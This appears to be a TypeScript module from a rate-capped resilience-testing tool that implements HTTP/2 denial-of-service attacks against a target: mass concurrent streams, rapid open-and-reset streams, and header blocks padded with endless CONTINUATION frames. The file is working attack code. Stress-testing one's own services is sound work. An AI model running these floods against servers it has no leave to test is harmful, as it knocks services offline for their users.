import type { Socket } from 'node:net'
import { connectedEvent, connectTo } from '../wire/connect.ts'
import {
  continuationFrame,
  FrameReader,
  frameType,
  headersFrame,
  literal,
  pingAck,
  preface,
  requestBlock,
  rstFrame,
  settingsAck,
} from '../wire/h2-frames.ts'
import { Allowance } from './allowance.ts'
import type { Attack, Counters } from './plan.ts'

interface Line {
  socket: Socket
  stream: number
  active: number
  frames: number
  ready: boolean
  blocked: boolean
  begun: boolean
}

const streamsAtOnce = 100

/** HTTP/2 attacks: many streams at once, streams that are opened and reset, header blocks that never end. */
export class Http2Attack {
  readonly #attack: Attack
  readonly #counters: Counters
  readonly #lines = new Set<Line>()
  readonly #block: Buffer
  readonly #piece = literal('x-shopwarden', 'resilience')
  #level = 0
  #ceased = false
  readonly #requests: Allowance
  readonly #openings: Allowance

  constructor(attack: Attack, counters: Counters) {
    this.#attack = attack
    this.#counters = counters
    // A tenth of a second of requests may be saved up, no more: a cap is a cap in every second.
    this.#requests = new Allowance(attack.caps.requestsPerSecond, attack.caps.requestsPerSecond / 10 + 1)
    this.#openings = new Allowance(attack.caps.connectionsPerSecond, attack.caps.connectionsPerSecond)
    this.#block = requestBlock(attack.target.authority, attack.path, attack.target.secure)
  }

  setLevel(level: number): void {
    this.#level = Math.min(level, this.#attack.caps.connections)
  }

  cease(): void {
    this.#ceased = true
  }

  drop(): void {
    this.#ceased = true
    for (const { socket } of this.#lines) socket.destroy()
  }

  tick(now: number): void {
    this.#requests.refill(now)
    this.#openings.refill(now)
    while (!this.#ceased && this.#lines.size < this.#level && this.#openings.left >= 1) {
      this.#openings.spend(1)
      this.#open()
    }
    if (this.#ceased) return
    const share = Math.floor(this.#requests.left / Math.max(1, this.#lines.size))
    for (const line of this.#lines) if (line.ready && !line.blocked) this.#requests.spend(this.#send(line, share))
  }

  /** Sends up to `most` units on one connection in one write; returns how many. */
  #send(line: Line, most: number): number {
    const pieces: Buffer[] = []
    let units = 0
    for (; units < Math.min(most, 200); units++) {
      if (this.#attack.scenario === 'http2-continuation') {
        if (!line.begun) {
          line.begun = true
          pieces.push(headersFrame(1, this.#block, false))
        }
        pieces.push(continuationFrame(1, this.#piece))
      } else {
        if (line.stream > 0x3fff_fff0) break
        if (this.#attack.scenario === 'http2-multiplex') {
          if (line.active >= streamsAtOnce) break
          line.active++
          pieces.push(headersFrame(line.stream, this.#block))
        } else pieces.push(headersFrame(line.stream, this.#block), rstFrame(line.stream))
        line.stream += 2
      }
    }
    if (units === 0) return 0
    const bytes = Buffer.concat(pieces)
    line.frames += units
    this.#counters.requests += units
    this.#counters.bytesOut += bytes.length
    line.blocked = !line.socket.write(bytes)
    return units
  }

  #open(): void {
    const counters = this.#counters
    const socket = connectTo(this.#attack.target, { alpn: ['h2'] })
    const line: Line = { socket, stream: 1, active: 0, frames: 0, ready: false, blocked: false, begun: false }
    let connected = false
    this.#lines.add(line)
    counters.tried++
    const reader = new FrameReader((frame) => {
      if (frame.type === frameType.settings && !frame.ack) {
        socket.write(settingsAck())
        line.ready = true
      } else if (frame.type === frameType.ping && !frame.ack) socket.write(pingAck(frame.payload))
      else if (frame.type === frameType.goaway) socket.destroy()
      else if ((frame.endStream && frame.stream > 0) || frame.type === frameType.rstStream) {
        line.active--
        if (frame.type === frameType.rstStream) counters.limited++
        else counters.ok++
      }
    })
    socket.once(connectedEvent(this.#attack.target), () => {
      connected = true
      counters.opened++
      counters.open++
      socket.write(preface())
    })
    socket.on('data', (chunk: Buffer) => {
      counters.bytesIn += chunk.length
      reader.feed(chunk)
    })
    socket.on('drain', () => {
      line.blocked = false
    })
    socket.on('error', () => undefined)
    socket.once('close', () => {
      this.#lines.delete(line)
      if (!connected) {
        if (!this.#ceased) counters.refused++
      } else {
        counters.open--
        if (!this.#ceased) {
          counters.shed++
          counters.framesUntilEnd = Math.max(counters.framesUntilEnd ?? 0, line.frames)
        }
      }
    })
  }
}
